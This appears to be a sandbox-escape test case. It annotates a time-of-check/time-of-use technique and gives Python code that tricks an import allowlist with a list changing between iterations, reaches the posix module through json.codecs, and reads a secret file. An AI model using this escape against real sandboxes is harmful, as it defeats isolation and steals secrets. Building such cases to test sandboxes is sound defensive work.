# class: time of check / time of use
# technique: a list of names that gives others the second time it is asked
# layers: interpreter, landlock, seccomp, identity
# code: user
# allow: collections, contextlib, copy, dataclasses, datetime, decimal, enum, functools, json, logging, math, operator, random, re, statistics, string, typing, unicodedata
# witness: secret
host = _items[0]["json"]
def kind(x):
    return classmethod(lambda c: c).__get__(x)()
Twice = kind(int)("Twice", (list,), {"__iter__": lambda self: iter(["loads"] if self.append(0) or len(self) < 3 else ["codecs"])})
json = __import__("json", None, None, Twice(["codecs"]))
reached = json.codecs.sys.modules["posix"]
return [{"json": {"reached": reached.read(reached.open(host["secret"], 0), 4096).decode()}}]
